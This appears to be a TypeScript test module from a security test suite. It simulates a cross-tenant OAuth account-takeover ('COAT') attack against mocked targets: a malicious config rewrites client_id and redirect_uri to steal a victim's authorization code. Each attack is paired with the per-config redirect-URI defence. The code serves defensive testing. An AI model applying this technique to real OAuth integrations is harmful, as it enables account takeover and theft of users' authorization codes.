import type { Attack } from './attack.js';
import { connectsHonestly, mara, stolen } from './loot.js';
import { atAnyRedirectUri } from './missing-defences.js';
import { makeTarget } from './target.js';
import type { World } from './world.js';

/**
 * Cross-tool account takeover: a config whose authorization endpoint is the attacker's sends the browser on to an honest
 * provider with an honest config's client and redirect URI, and our state. Its code would go to the attacker's token
 * endpoint, with the verifier that belongs to it.
 */
async function attack(world: World, whose: 'acme' | 'evil') {
  const { malicious, provider } = world;
  const honest = await makeTarget(world, world.acme);
  const trap = await makeTarget(world, world[whose], {
    definition: {
      name: 'Free calendar',
      authorize: { url: `${malicious.url}/authorize` },
      token: { url: `${malicious.url}/token` },
    },
  });
  malicious.sendsOnTo = (asked) => {
    const onward = new URLSearchParams(asked);
    onward.set('client_id', honest.clientId);
    onward.set('redirect_uri', honest.callbackUrl);
    return `${provider.url}/authorize?${onward}`;
  };
  const victim = await world.person(mara);
  await victim.openWizard(trap);
  const { url } = await victim.begin(trap);
  await victim.follow(url, world.door);
  return stolen(world, /^a code of mara/);
}

const rest = {
  defence: 'a redirect URI for each config and environment',
  honest: connectsHonestly,
  without: atAnyRedirectUri,
};

export const coatAcrossTenants: Attack = {
  name: 'COAT, across tenants',
  attack: (world) => attack(world, 'evil'),
  ...rest,
};

export const coatWithinOneTenant: Attack = {
  name: 'COAT, by another config of the same tenant',
  attack: (world) => attack(world, 'acme'),
  ...rest,
};
